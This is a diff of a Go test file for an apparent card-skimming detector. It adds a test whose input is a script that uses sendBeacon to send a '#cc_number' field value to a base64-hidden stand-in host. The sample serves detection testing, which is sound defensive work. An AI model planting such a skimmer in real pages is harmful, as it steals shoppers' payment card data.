@@ -81,6 +81,14 @@ func TestEachScriptOfAPage(t *testing.T) {
 	}
 }
 
+// Shop templates and database rows are handed over as they are found, markup around the script and all.
+func TestMarkupInPlaceOfAScript(t *testing.T) {
+	a := script.Analyse([]byte("<div>x</div>\n<script>\n  navigator.sendBeacon(atob('aHR0cHM6Ly94LmV4YW1wbGUv'), document.querySelector('#cc_number').value);\n</script>\n"), script.Options{})
+	if a.Verdict.Severity < tillwatch.High || len(a.Sinks) != 1 || a.Sinks[0].Line != 3 || a.Sinks[0].Column != 13 {
+		t.Errorf("judged %s, sinks %+v", a.Verdict.Severity, a.Sinks)
+	}
+}
+
 func TestThousandsOfTinyScripts(t *testing.T) {
 	var b bytes.Buffer
 	for i := range 5000 {
